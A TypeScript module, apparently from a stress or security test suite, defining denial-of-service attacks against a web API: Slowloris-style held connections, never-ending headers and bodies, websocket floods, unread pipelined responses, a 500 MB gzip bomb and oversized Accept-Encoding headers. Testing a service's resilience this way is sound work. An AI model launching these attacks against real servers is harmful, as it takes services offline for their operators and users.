import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { ask, statuses, times } from './asking.ts';
import type { Attack } from './attack.ts';

export const CONNECTION_ATTACKS: readonly Attack[] = [
  holds('500 connections that say nothing', () => ''),
  holds('500 bodies that never end', (host) =>
    head('POST', '/rest/v1/pages?on_conflict=id', host, ['content-length: 8000000']),
  ),
  holds('500 headers that never end', (host) => `GET / HTTP/1.1\r\nhost: ${host}\r\nx-a: `),
  holds('500 web sockets', (host) =>
    head('GET', '/realtime/v1/websocket', host, [
      'connection: upgrade',
      'upgrade: websocket',
      'sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==',
      'sec-websocket-version: 13',
    ]),
  ),
  holds('100 answers that nobody reads, of 100 requests each', (host) =>
    head('GET', '/big.txt', host, []).repeat(100),
  ),
  {
    name: 'a body of 500 MB, compressed',
    isQuick: false,
    run: (target) => {
      const body = gzipSync(Buffer.alloc(500_000_000));
      return statuses(
        times(5, () =>
          ask(target, '/rest/v1/pages?on_conflict=id', {
            method: 'POST',
            headers: {
              authorization: `Bearer ${target.attacker.token}`,
              'content-type': 'application/json',
              'content-encoding': 'gzip',
            },
            body,
          }),
        ),
      );
    },
  },
  {
    name: '100 files with 1,500 encodings each',
    answer: '100 × 200',
    isQuick: true,
    run: (target) => {
      const encodings = times(1500, (n) => `x${n.toString(36)};q=1`).join();
      return statuses(
        times(100, () => ask(target, '/', { headers: { 'accept-encoding': encodings } })),
      );
    },
  },
];

/** Holds up to 500 connections that have sent `text`, for 2 s. */
function holds(name: string, text: (host: string) => string): Attack {
  return {
    name,
    isQuick: false,
    isStopped: name.includes('bodies'),
    run: async ({ url }) => {
      const { hostname, port, host } = new URL(url);
      const sockets = times(Number.parseInt(name, 10), () =>
        connect(Number(port), hostname, function send(this: Socket) {
          this.write(text(host));
        }).on('error', () => undefined),
      );
      await sleep(2000);
      const open = sockets.filter((socket) => socket.readyState === 'open').length;
      for (const socket of sockets) socket.destroy();
      return `${open} open`;
    },
  };
}

function head(method: string, path: string, host: string, lines: readonly string[]): string {
  return [`${method} ${path} HTTP/1.1`, `host: ${host}`, ...lines, '', ''].join('\r\n');
}
